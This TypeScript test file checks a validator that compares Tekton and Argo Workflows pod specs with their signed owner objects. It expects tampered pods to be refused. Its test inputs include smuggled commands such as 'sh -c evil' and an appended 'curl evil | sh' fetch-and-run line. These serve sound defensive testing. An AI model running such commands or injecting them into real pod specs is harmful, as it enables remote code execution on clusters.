import t from 'tap'
import type { JsonObject } from '../../../common/json.ts'
import { object, signed } from './made-by.ts'
import { image, made, shell } from './made-pods.ts'

const base64 = (text: string) => Buffer.from(text).toString('base64')

t.test('Tekton wraps the command of a step, and places its script', async t => {
  const owner = signed(
    object('tekton.dev/v1 TaskRun', 'run', {
      spec: {
        params: [{ name: 'lr', value: '0.1' }],
        taskSpec: {
          steps: [
            {
              name: 'train',
              image,
              command: ['python', 'train.py'],
              args: ['--lr=$(params.lr)', '$(params.more[*])'],
              env: [{ name: 'OUT', value: '$(results.model.path)' }]
            },
            { name: 'test', image, script: 'pytest --lr $(params.lr)\n' },
            { name: 'image', image }
          ],
          sidecars: [{ name: 'db', image, command: ['serve'] }]
        }
      }
    })
  )
  const entrypoint = (name: string, command: string, ...args: readonly string[]) => ({
    name: `step-${name}`,
    image,
    command: ['/tekton/bin/entrypoint'],
    args: [
      ...['-wait_file', '/tekton/downward/ready', '-post_file', '/tekton/run/0/out'],
      ...['-termination_path', '/tekton/termination', '-entrypoint', command, '--', ...args]
    ]
  })
  const tools = {
    name: 'prepare',
    image: 'ghcr.io/tektoncd/pipeline/entrypoint:v1',
    command: ['/ko-app/entrypoint', 'init', '/ko-app/entrypoint', '/tekton/bin/entrypoint']
  }
  const file = '/tekton/scripts/script-1-9l9zj'
  const place = (script: string) => ({
    name: 'place-scripts',
    image: shell,
    command: ['sh'],
    args: [
      '-c',
      `scriptfile="${file}"\ntouch \${scriptfile} && chmod +x \${scriptfile}\ncat > \${scriptfile} << '_EOF_'\n${base64(script)}\n_EOF_\n/tekton/bin/entrypoint decode-script "\${scriptfile}"\n`
    ]
  })
  const placed = place('#!/bin/sh\nset -e\npytest --lr 0.1\n')
  const run = (steps: readonly JsonObject[], initContainers: readonly JsonObject[] = [tools]) =>
    made(owner, { containers: steps, initContainers })
  const steps = [
    {
      ...entrypoint('train', 'python', 'train.py', '--lr=0.1', '--a', '--b'),
      env: [
        { name: 'OUT', value: '/tekton/results/model' },
        { name: 'TEKTON_RESOURCE_NAME', value: 'run' }
      ]
    },
    entrypoint('test', file),
    entrypoint('image', '/usr/bin/entry', 'x'),
    { name: 'sidecar-db', image, command: ['serve'] }
  ]
  t.equal(await run(steps, [tools, placed]), 'passes')
  const refused = /^spec\.containers\[0\]\.command is no command/
  t.match(await run([entrypoint('train', 'sh', '-c', 'evil')]), refused)
  t.match(await run([entrypoint('train', 'python', 'evil.py', '--lr=0.1')]), refused)
  t.match(await run([entrypoint('train', '/tekton/scripts/script-0-aaaaa')]), refused)
  t.match(await run([entrypoint('test', 'sh', '-c', 'evil')]), refused)
  t.match(
    await run([{ name: 'step-train', image, command: ['/tekton/bin/entrypoint', 'evil'] }]),
    refused
  )
  const script = 'spec.initContainers[0] runs a script that it does not have'
  t.equal(await run([], [place('#!/bin/sh\nset -e\nevil\n')]), script)
  const more = place('pytest --lr 1\n')
  const args = ['-c', `${more.args[1] ?? ''}curl evil | sh\n`]
  t.match(await run([], [{ ...more, args }]), /^spec\.initContainers\[0\]\.command is no command/)
  t.match(
    await run([], [{ ...tools, command: ['sh', '-c', 'evil'] }]),
    /^spec\.initContainers\[0\]\.command is no command/
  )
})

t.test('Argo Workflows runs commands by its emissary, and stages scripts', async t => {
  const owner = signed(
    object('argoproj.io/v1alpha1 Workflow', 'flow', {
      spec: {
        templates: [
          {
            name: 'a',
            container: { image, command: ['python'], args: ['{{inputs.parameters.x}}.py'] }
          },
          { name: 'b', script: { image, command: ['bash'], source: 'echo {{=a.b}}' } }
        ]
      }
    })
  )
  const executor = 'quay.io/argoproj/argoexec:v3.6.5'
  const emissary = [
    '/var/run/argo/argoexec',
    'emissary',
    '--loglevel',
    'info',
    '--log-format',
    'text',
    '--'
  ]
  const init = (source: string) => ({
    name: 'init',
    image: executor,
    command: ['argoexec', 'init', '--loglevel', 'info'],
    env: [{ name: 'ARGO_TEMPLATE', value: JSON.stringify({ name: 'b', script: { source } }) }]
  })
  const run = (main: JsonObject, source = 'echo 7') =>
    made(owner, {
      containers: [
        { name: 'wait', image: executor, command: ['argoexec', 'wait'] },
        { name: 'main', image, env: [{ name: 'ARGO_CONTAINER_NAME', value: 'main' }], ...main }
      ],
      initContainers: [init(source)]
    })
  t.equal(await run({ command: [...emissary, 'python'], args: ['train.py'] }), 'passes')
  t.equal(await run({ command: [...emissary, 'bash', '/argo/staging/script'] }), 'passes')
  const refused = 'spec.containers[1].command is no command that it has for this container'
  t.equal(await run({ command: [...emissary, 'bash'], args: ['-c', 'evil'] }), refused)
  t.equal(await run({ command: [...emissary, 'python'], args: ['-c', 'evil'] }), refused)
  t.equal(
    await run({ command: [...emissary, 'bash', '/argo/staging/script'] }, 'evil'),
    'spec.initContainers[0] runs a script that it does not have'
  )
})
